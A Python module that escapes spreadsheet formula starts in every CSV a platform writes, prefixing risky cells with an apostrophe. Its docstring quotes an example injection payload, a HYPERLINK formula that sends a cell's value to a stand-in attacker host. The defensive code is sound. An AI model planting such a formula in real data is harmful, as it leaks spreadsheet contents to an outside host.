"""The one guard for every CSV the platform writes: cells that a spreadsheet would run.

Excel, LibreOffice and Google Sheets treat a cell that starts with = + - @ as a formula (and a
leading tab or carriage return is dropped before that check), so a delegate who calls
themselves `=HYPERLINK("http://evil.example?"&A1)` would run code in an organiser's
spreadsheet. Such a cell gets a leading apostrophe: shown as text, the value still readable.
Every CSV writer (registrations, audit log, vouchers ...) writes its rows through `safe_row`;
tests/security/test_exports.py finds the writers and checks each.
"""
from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: object) -> str:
    """The value as a CSV cell, with an apostrophe before a formula start."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[object]) -> list[str]:
    return [csv_safe(value) for value in values]
